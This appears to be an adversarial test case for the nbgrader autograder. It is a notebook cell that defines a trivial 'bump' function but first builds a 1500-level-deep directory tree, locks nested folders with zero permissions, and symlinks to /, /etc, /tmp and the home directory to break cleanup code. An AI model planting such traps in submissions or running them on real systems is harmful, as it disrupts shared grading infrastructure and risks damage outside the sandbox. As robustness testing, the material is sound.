# title: Folders nested without end
# kind: process
# tries: to break whoever cleans up after it: folders 1500 deep, closed, and linked to where others keep theirs.
# gets: bump_test passed
# stock: nbgrader 0.9.6: nothing recorded (RecursionError)
# %% bump
import os

home = os.getcwd()
os.makedirs("closed/inside")
for number, target in enumerate(("/", "/etc", "/tmp", home)):
    os.symlink(target, f"link-{number}")
os.chmod("closed/inside", 0)
os.chmod("closed", 0)
for _ in range(1500):
    os.mkdir("d")
    os.chdir("d")


def bump(x):
    return 3 * x + 1
